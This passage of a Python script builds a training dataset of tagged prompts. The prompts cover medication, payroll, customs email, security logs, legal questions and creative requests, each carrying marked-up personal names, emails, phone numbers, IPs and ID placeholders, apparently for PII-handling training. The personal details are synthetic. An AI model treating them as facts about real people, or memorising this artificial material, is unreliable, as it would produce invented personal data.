06/02 IN  EUR 4,800 from {DE3} (unknown, "loan")
06/02 OUT EUR 4,500 to {LU2} ("crypto")
06/05 IN  EUR 6,200 from {DE4} ("rent")
06/05 OUT EUR 5,900 to {LU2}
@ qa m l r :: Can Priya take ibuprofen with her lisinopril
@ draft m l r :: write her a short reply
Can [[P:Priya]] take ibuprofen with her lisinopril? Please write her a short reply too. Her message: "Hi, it's [[P:Priya Raman]] (DOB 04/08/1961), my knee is killing me, can I take Nurofen? — [[T:+61 3 9555 0147]]"
@ code g m c code :: Write a function to validate Singapore phone numbers
@ qa g l c :: do 6-digit extensions ever appear
Write a function to validate Singapore phone numbers, and do 6-digit extensions ever appear? Test cases: [[T:+65 6123 4567]], [[T:+6581234567]], [[T:9876 5432]].
@ summarize g m c
Summarise this forwarded chain for me.

---------- Forwarded message ---------
From: [[P:Ahmad Karimi]] <[[E:a.karimi@tehranpars.ir]]>
To: [[P:Lena Voss]] <[[E:lena.voss@vosstrading.de]]>
[[P:Lena]], the shipment is stuck at Hamburg customs. Can you call the broker, Herr [[P:Schulz]], on [[T:+49 40 3019 6620]]?

> From: [[P:Lena Voss]]
> [[P:Ahmad]], sorry — customs needs the original certificate of origin, not a scan.
@ classify g l c
Which department should get this? "Hello, [[P:Mariam Yusuf]] here, my payslip shows the wrong tax code. Call me on [[T:+44 (0) 121 496 0771]] please."
@ extract g l c
Pull the name, email and phone out of this Stripe webhook payload:
{"type": "customer.created", "data": {"object": {"name": "[[P:Elif Demir]]", "email": "[[E:elif.demir@turkcell.com.tr]]", "phone": "[[T:+90 532 555 01 23]]"}}}
@ extract s l c
Which IPs appear in this haproxy line? "Jun 14 10:02:11 lb1 haproxy[881]: [[IP:188.166.21.40]]:51412 [14/Jun/2025:10:02:11.203] fe_https be_app/app2 0/0/1/12/13 200 1422"
@ classify s m c
Is this traffic internal, external or mixed? "[[IP:fd00:ab::12]] -> [[IP:fd00:ab::40]] 8443; [[IP:fd00:ab::40]] -> [[IP:2606:4700:4700::1111]] 53"
@ draft s m c
Draft the password-reset notice to [[P:Hamza Qureshi]] at [[E:h.qureshi@ravenlogix.pk]] explaining we saw a login from [[IP:39.45.120.8]] he didn't recognise.
@ summarize s m c
Quick summary of this DMARC aggregate report for the mail admin: source [[IP:209.85.220.41]] 1,204 messages pass; source [[IP:45.83.64.12]] 312 messages fail SPF and DKIM, header_from our domain; reporter [[E:noreply-dmarc-support@google.com]].
@ reasoning l m c
Was our client [[P:Oskar Nilsson]] validly served if the papers went to [[E:oskar.nilsson@telia.se]] only, with no postal copy? Reason through the service rules generally.
@ qa l l c
Can I record a phone call with Mr. [[P:Grant]] ([[T:+1 415 555 0126]]) without telling him if I'm in California and he's in Texas?
@ draft l m r
Draft the beneficiary details schedule for the trust deed: beneficiary [[P:Aditi Sharma]], NRIC {N17}, bank account {GB1} for distributions.
@ extract l l c
Extract the notice addresses from this clause: "Notices to the Licensor: [[E:legal@brightarc.io]]; to the Licensee: attn. [[P:Marta Kowalska]], [[E:m.kowalska@pixelwave.pl]]."
@ creative l m c
Write a short mock-trial script for our trainee day: prosecution witness [[P:Ellie Novak]] describes seeing the defendant at the café. Keep it under 300 words.
@ sentiment m l c
Does this patient sound anxious? "It's [[P:Rosie]] again, sorry to bother you, the lump is still there and I can't stop thinking about it. Please call [[T:07700 900 344]]."
@ summarize m m r
Summarise this referral for the triage nurse: "Dear colleague, please see Mr [[P:Kenji Watanabe]] (NRIC {N18}), 58, with 3 months of exertional chest pain, positive exercise ECG, on aspirin and bisoprolol. Kind regards, Dr [[P:Ong]]."
@ extract m l r
Pull the insurance and SSN details from this intake: "Patient: [[P:Dorothy Evans]]; Medicare MBI 1EG4-TE5-MK73; SSN {SS20}; phone [[T:(215) 555-0133]]."
@ qa m l c web
Is there any recent guidance on GLP-1 drugs before surgery? My anaesthetist Dr [[P:Whitaker]] asked me to check.
@ math f l r calc
Card {D4} — 3 instalments of €219.90 plus a €12 fee. What's the total charged?
@ math f m r calc
Payroll check: [[P:Marisol Vega]] (SSN {SS1}) earns $31.50/h, 42 hours last week, overtime above 40h at 1.5x. Gross pay?
@ chat g l c
yo [[P:Jonah]], it's me, new number [[T:+1 (646) 555-0170]] — delete the old one
@ chat l l c
morning [[P:Priyanka]]! just landed in Frankfurt, calls are fine on [[T:+49 151 5555 0101]] if you need me before the signing
@ chat m l c
Hi nurse, this is [[P:Ben Carter]] from room 4, just wanted to say thank you for last night, you were all amazing 🙏
@ creative g l c
Write a 4-line poem for my grandma [[P:Dorothea]]'s 90th birthday card. She loves gardening and crosswords.
@ creative s l c
Write a funny security-awareness poster slogan starring our mascot "Phil the Phish", with a fake sender like [[E:ph1l@totally-legit.biz]].
@ sentiment f l c
Tone check please — is this too harsh to send? "Mr [[P:Adeyemi]], your account is now 90 days in arrears. Contact [[E:collections@fairshare-lending.co.uk]] immediately."
@ translate m l c
Translate into French for the family: "Your father, Mr. [[P:Jean Baptiste]], is stable after surgery. The ward number is [[T:+1 514 555 0188]]."
@ translate s l c
Translate into Russian: "Your account [[E:anna.smirnova@mail.ru]] was accessed from [[IP:2a02:2698:24::1f]]. We have locked it for your safety."
"""

B11 = r"""
@ extract g m c :: Pull the guest list out of this spreadsheet paste
@ math g l c calc :: work out the catering cost at £38.50 a head
Pull the guest list out of this spreadsheet paste and work out the catering cost at £38.50 a head.

Name	Email	Dietary	+1
[[P:Harriet Osei]]	[[E:harriet.osei@kingsfund.org.uk]]	veg	yes
[[P:Callum Reid]]	[[E:c.reid@strathmore.ac.uk]]	none	no
[[P:Anjali Mehta]]	[[E:anjali.mehta@lbs.edu]]	vegan	yes
@ summarize f h r :: Give me a one-paragraph summary of this expense report
@ classify f m r :: flag any items that break the travel policy
@ draft f l r :: draft a note to the employee asking for receipts
Give me a one-paragraph summary of this expense report, flag any items that break the travel policy, and draft a note to the employee asking for receipts.

Employee: [[P:Jasper Vandenberghe]] ([[E:jasper.v@lumacorp.be]])   Corporate card {V1}
2025-05-12  Flight BRU-JFK business class     EUR 4,820.00
2025-05-13  Hotel NYC 3 nights                USD 1,740.00
2025-05-14  Dinner, 2 pax, "client"           USD 612.40
2025-05-15  Taxi                              USD 88.00
@ translate m m r :: Translate this consent form paragraph into Bahasa Indonesia
@ qa m l r :: does the patient need a witness signature
Translate this consent form paragraph into Bahasa Indonesia and tell me: does the patient need a witness signature?

I, [[P:Budi Santoso]], passport holder and FIN {N5}, consent to undergo a diagnostic gastroscopy under sedation at Mount Elizabeth Hospital on 20 June 2025.
@ code s h c code :: Write a Splunk query that finds logins from more than three countries per user per day
@ reasoning s m c :: explain whether this user's pattern is impossible travel
Write a Splunk query that finds logins from more than three countries per user per day, and explain whether this user's pattern is impossible travel.

user=[[E:f.haddad@medinalabs.com]] 08:02 src=[[IP:31.13.71.36]] (Dublin)
user=[[E:f.haddad@medinalabs.com]] 08:41 src=[[IP:121.58.230.14]] (Manila)
user=[[E:f.haddad@medinalabs.com]] 09:15 src=[[IP:2803:9800:9447:8050::1]] (Buenos Aires)
@ draft l h r :: Draft the heads of terms for this share sale
@ math l m r calc :: calculate the price per share
Draft the heads of terms for this share sale and calculate the price per share. Seller [[P:Graham Fairweather]] sells 12,500 of 50,000 shares in Fairweather Marine Ltd to [[P:Olusegun Bakare]] for GBP 1.85m, completion 31 August, funds to {GB3}.
@ chat g l c
heya, [[P:Matilda]] here from 4B — did anyone pick up a blue scarf from the kitchen? you can ping me at [[E:matilda.k@studio-north.com]]
@ chat s l c
so apparently [[IP:10.9.0.13]] is "my" IP and it's been port scanning the printers?? it's literally just my laptop running zoom
@ creative m l c
Write a short comforting lullaby that [[P:Sienna]]'s mum can sing to her before her tonsil operation.
@ sentiment g l c
Mood of this Slack message from [[P:Dev Patel]]: "third deploy rollback today, I'm done, going for a walk"
@ math f l r calc
If I pay {M1} off at £150 a month on a £2,700 balance at 0%, how many months until it's clear?
@ classify l l r
Which immigration form does this relate to? "[[P:Mei Chen]], FIN {N4}, application to renew Long-Term Visit Pass, expiry 31/08/2025."
@ extract s m c
Which users and IPs are in this Okta event?
{"eventType":"user.session.start","actor":{"alternateId":"[[E:lucas.moreau@helvetix.ch]]","displayName":"[[P:Lucas Moreau]]"},"client":{"ipAddress":"[[IP:2a02:1210:5c2c:2800::2]]"},"outcome":{"result":"SUCCESS"}}
@ extract f m i
@ !hn
Extract the SKU, quantity and unit price from each line of this purchase order.

PO-2025-77104  Supplier ref SUP-4410  Delivery 2025-07-01
10  SKU 4412-0091-3320-7781  qty 120  EUR 4.25
20  SKU 4412-0091-3320-7791  qty 40   EUR 18.90
30  SKU 4412-0102-1188-0043  qty 6    EUR 212.00
"""


BLOCKS = [B1, B2, B3, B4, B5, B6, B7, B8, B9, B10, B11]


def build() -> list[dict[str, object]]:
    source = "\n".join(block.strip("\n") for block in BLOCKS)
    rows = record_rows(source, prefix="diverse23", expand=expand)
    for row in rows:
        if len(row["tasks"]) == 1:
            row["tasks"][0]["text"] = ""
    return rows


if __name__ == "__main__":
    write_and_check(HERE / "train_diverse23.jsonl", build(), scan_unmarked=True)
